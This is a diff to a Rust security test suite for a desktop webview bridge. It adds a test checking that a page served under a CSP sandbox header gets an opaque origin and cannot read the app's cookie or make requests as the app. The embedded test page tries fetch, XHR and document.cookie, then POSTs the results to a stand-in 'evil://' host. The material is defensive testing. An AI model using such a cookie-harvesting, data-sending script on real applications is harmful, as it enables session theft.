@@ -44,12 +44,21 @@ impl Suite {
         config: bridge_desktop::HostConfig,
         wry: impl for<'a> FnOnce(wry::WebViewBuilder<'a>) -> wry::WebViewBuilder<'a>,
     ) -> Suite {
+        Suite::with_mounts(config, wry, |b| b)
+    }
+
+    /// As [`with_wry`](Self::with_wry), the bus's builder given to `extra` too.
+    fn with_mounts(
+        config: bridge_desktop::HostConfig,
+        wry: impl for<'a> FnOnce(wry::WebViewBuilder<'a>) -> wry::WebViewBuilder<'a>,
+        extra: impl FnOnce(bus_core::BusBuilder) -> bus_core::BusBuilder,
+    ) -> Suite {
         let mut record = None;
         let h = Harness::with_wry(
             |b| {
                 let (b, r) = testkit::hostile::mount(b);
                 record = Some(r);
-                b
+                extra(b)
             },
             config,
             wry,
@@ -791,8 +800,81 @@ fn a_navigation_handler_before_attach_voids_the_proof() {
     let _ = reports;
 }
 
+/// A page the app serves with `Content-Security-Policy: sandbox allow-scripts` (how a page
+/// shows content it does not trust, as a sandboxed iframe does): its origin is opaque, so it
+/// is not the app. WebKitGTK still runs the top frame's document-start scripts in it, whose
+/// `location` is the app's: the relay and the shim must look at the document's origin, or
+/// its fetch and XHR go by frames as the app's main frame, and its `document.cookie` is the
+/// app's.
+fn a_page_the_app_serves_sandboxed_is_not_the_app() {
+    const PAGE: &str = r#"<!doctype html><meta charset="utf-8"><title>sandboxed</title><script>
+(async () => {
+  const out = { ctx: 'csp-sandbox', origin: String(self.origin), shim: typeof InprocBusBridge };
+  const attempt = async (kind, f) => {
+    try { out[kind] = await f(); } catch (e) { out[kind] = 'threw ' + (e && e.name); }
+  };
+  await attempt('fetch', async () => (await fetch('/api/csp-sandbox/fetch')).status);
+  await attempt('xhr', () => new Promise((resolve) => {
+    const x = new XMLHttpRequest();
+    x.open('GET', '/api/csp-sandbox/xhr');
+    x.onloadend = () => resolve(x.status);
+    x.send();
+  }));
+  await attempt('cookie', async () => document.cookie);
+  await fetch('evil://x/report', { method: 'POST', body: JSON.stringify(out) });
+})();
+</script>"#;
+    let s = Suite::with_mounts(
+        bridge_desktop::HostConfig::new(ORIGIN),
+        |b| b,
+        |b| {
+            b.mount_with(
+                bus_core::Mount::new(
+                    "/sandboxed",
+                    tower::service_fn(|_req: http::Request<bus_core::Body>| async {
+                        Ok::<_, std::convert::Infallible>(
+                            http::Response::builder()
+                                .header("content-type", "text/html; charset=utf-8")
+                                .header("content-security-policy", "sandbox allow-scripts")
+                                .body(bus_core::Body::from(PAGE))
+                                .expect("a response"),
+                        )
+                    }),
+                )
+                .public(),
+            )
+        },
+    );
+    // A cookie of the app's, which the sandboxed page must not read.
+    s.h.load("/basic.html");
+    let _ = s.h.report(Duration::from_secs(20));
+    s.h.eval("document.cookie = 'secret=app-only; path=/'; return true");
+    s.h.load("/sandboxed/page.html");
+    let r = s
+        .report("csp-sandbox", Duration::from_secs(30))
+        .expect("the sandboxed page reports");
+    eprintln!("csp-sandbox: {r}");
+    assert_eq!(r["origin"], "null", "the page's origin is opaque: {r}");
+    assert_eq!(
+        r["shim"], "undefined",
+        "no shim in a document of an opaque origin: {r}"
+    );
+    assert_ne!(r["fetch"], 200, "{r}");
+    assert_ne!(r["xhr"], 200, "{r}");
+    assert!(
+        !r["cookie"].as_str().unwrap_or("").contains("secret"),
+        "the app's cookie read from an opaque origin: {r}"
+    );
+    s.h.wait(Duration::from_millis(300));
+    s.check(&[r]);
+}
+
 fn main() {
     support::run(&[
+        (
+            "a_page_the_app_serves_sandboxed_is_not_the_app",
+            a_page_the_app_serves_sandboxed_is_not_the_app,
+        ),
         (
             "a_window_the_app_opens_cannot_navigate_it_as_the_app",
             a_window_the_app_opens_cannot_navigate_it_as_the_app,
